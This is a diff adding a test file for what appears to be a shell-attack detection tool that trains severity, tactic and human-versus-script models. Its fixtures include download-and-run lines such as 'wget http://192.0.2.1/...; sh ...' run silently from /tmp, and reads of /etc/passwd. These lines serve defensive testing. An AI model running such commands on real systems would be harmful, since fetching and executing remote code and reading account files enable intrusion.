@@ -1,0 +1,155 @@
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, describe, expect, it } from 'vitest';
+import { loadRules } from '../attack/load-rules.ts';
+import { severityModelOf } from '../severity-model.ts';
+import { foldOf } from './folds.ts';
+import { linesOfFile } from './lines-of-file.ts';
+import { measureSeverity, trainingLines } from './measure-severity.ts';
+import { splitSession } from './session-data.ts';
+import { readOrdinaryLines, readRatedLines, ruleExampleLines } from './severity-data.ts';
+import { actorSessions, measureActor } from './train-actor.ts';
+import { growForestFile } from './train-anomaly.ts';
+import { toModelFile, trainSeverity } from './train-severity.ts';
+import { measureTactics, readTacticSessions, trainTactics } from './train-tactics.ts';
+
+const rules = loadRules(new URL('../../../../policy/attack/', import.meta.url).pathname);
+const folder = mkdtempSync(join(tmpdir(), 'cerberus-train-'));
+afterAll(() => rmSync(folder, { recursive: true }));
+
+const words = ['alpha', 'beta', 'gamma', 'delta', 'zeta', 'eta', 'theta', 'iota', 'kappa', 'lambda', 'mu', 'nu'];
+const rated = words.flatMap((word) => [
+  { command: `ls -la /srv/${word}`, severity: 'LOW', rater1: 'LOW', rater2: 'LOW' },
+  { command: `grep -r ${word} /etc/passwd`, severity: 'MEDIUM', rater1: 'MEDIUM', rater2: 'MEDIUM' },
+  { command: `wget http://192.0.2.1/${word}; sh ${word}.sh`, severity: 'HIGH', rater1: 'HIGH', rater2: 'HIGH' },
+  { command: `head ${word}/conf`, severity: null, rater1: 'LOW', rater2: 'MEDIUM' },
+]);
+const corpus = writeCorpus();
+
+describe('severity training', () => {
+  const lines = trainingLines(corpus);
+
+  it('learns the lines it was given and gives the same file twice', () => {
+    const [first, second] = [0, 1].map(() => toModelFile(trainSeverity(lines), ['LOW', 'MEDIUM', 'HIGH'], 'v', 1));
+    expect(first).toEqual(second);
+    if (first === undefined) throw new Error('not trained');
+    const model = severityModelOf(first);
+    for (const line of corpus.rated.filter(({ agreed }) => agreed !== null))
+      expect(model.judge(line.features).severity).toBe(line.agreed);
+  });
+
+  it('measures every line by a model that never saw its shape', () => {
+    const figures = measureSeverity(corpus);
+    expect(figures.ratedLines).toBe(36);
+    // The twelve downloads differ in names only, which a shape leaves out.
+    expect(figures.shapes).toBe(25);
+    expect(figures.kappa).toBeLessThanOrEqual(1);
+    expect(figures.kappaInterval[0]).toBeLessThanOrEqual(figures.kappaInterval[1]);
+  });
+
+  it('names the file and line of a label that cannot be read', () => {
+    const broken = join(folder, 'broken');
+    mkdirSync(join(broken, 'labelled'), { recursive: true });
+    writeFileSync(
+      join(broken, 'labelled/severity_dev.jsonl'),
+      `${JSON.stringify({ ...rated[0], source: 's' })}\n{"command":"x"}\n`,
+    );
+    expect(() => readRatedLines(broken, rules)).toThrow(/severity_dev\.jsonl:2/);
+    expect(() => readRatedLines(join(folder, 'absent'), rules)).toThrow(/Expected labelled lines/);
+  });
+});
+
+describe('training on too little is refused', () => {
+  it('one tactic only', () => {
+    const sessions = readTacticSessions([{ id: 'a', statements: ['id'], labels: ['Discovery'] }], rules);
+    expect(() => trainTactics(sessions, 'v')).toThrow(/at least two tactics/);
+  });
+
+  it('scripts without people', () => {
+    expect(() => measureActor(actorSessions([], [['id'], ['ls']]))).toThrow(/one kind only/);
+  });
+
+  it('a handful of rows for a forest', () => {
+    expect(() => growForestFile([Float32Array.of(1)], ['x'], 'v')).toThrow(/at least 500 rows/);
+  });
+});
+
+describe('tactic training', () => {
+  it('cross-validates sessions and counts every statement once', () => {
+    const sessions = readTacticSessions(
+      words.flatMap((word) => [
+        { id: `${word}1`, statements: ['uname -a ;', `cat /proc/${word} ;`], labels: ['Discovery', 'Discovery'] },
+        {
+          id: `${word}2`,
+          statements: ['cd /tmp ;', `wget http://192.0.2.1/${word} ;`, `sh ${word} ;`],
+          labels: ['Execution', 'Execution', 'Execution'],
+        },
+      ]),
+      rules,
+    );
+    const figures = measureTactics(sessions);
+    expect(figures.statements).toBe(60);
+    expect(figures.confusion.flat().reduce((a, b) => a + b, 0)).toBe(60);
+  });
+});
+
+it('people and scripts that type otherwise are told apart, and a person is measured as one group', () => {
+  const people = words.map((word) => [
+    'ls',
+    'cd ..',
+    `cat ${word}`,
+    `cat ${word}s`,
+    'man ls',
+    'clear',
+    'ls',
+    'pwd',
+    `nano ${word}`,
+    'exit',
+  ]);
+  const scripts = words.map((word) => [`cd /tmp; wget http://192.0.2.1/${word}; sh ${word} > /dev/null 2>&1`]);
+  expect(measureActor(actorSessions(people, scripts)).auc).toBeGreaterThan(0.95);
+});
+
+it('sessions are split as their labellers split them: after each separator, which stays', () => {
+  expect(splitSession('cat a | grep b || id; cd /tmp && ls ; w')).toEqual([
+    'cat a |',
+    'grep b ||',
+    'id;',
+    'cd /tmp &&',
+    'ls ;',
+    'w',
+  ]);
+});
+
+it('a fold depends on the group alone', () => {
+  expect(foldOf('a ; b', 5)).toBe(foldOf('a ; b', 5));
+  expect(new Set(words.map((word) => foldOf(word, 5))).size).toBeGreaterThan(2);
+});
+
+it('lines over the edge of a read are whole, and the last needs no terminator', () => {
+  const path = join(folder, 'long.txt');
+  const lines = Array.from({ length: 5 }, (_, at) => `${at}${'ä'.repeat(400_000)}`);
+  writeFileSync(path, lines.join('\n'));
+  expect([...linesOfFile(path)]).toEqual(lines);
+  expect(readFileSync(path, 'utf8').split('\n')).toEqual(lines);
+});
+
+function writeCorpus() {
+  mkdirSync(join(folder, 'labelled'), { recursive: true });
+  mkdirSync(join(folder, 'benign'), { recursive: true });
+  const jsonLines = (items: readonly object[]) => `${items.map((item) => JSON.stringify(item)).join('\n')}\n`;
+  writeFileSync(
+    join(folder, 'labelled/severity_dev.jsonl'),
+    jsonLines(rated.map((line) => ({ ...line, source: 'test' }))),
+  );
+  writeFileSync(
+    join(folder, 'benign/nl2bash_dev.jsonl'),
+    jsonLines(words.map((word) => ({ command: `find . -name "${word}*"` }))),
+  );
+  return {
+    rated: readRatedLines(folder, rules),
+    ordinary: readOrdinaryLines(folder, rules),
+    examples: ruleExampleLines(rules),
+  };
+}
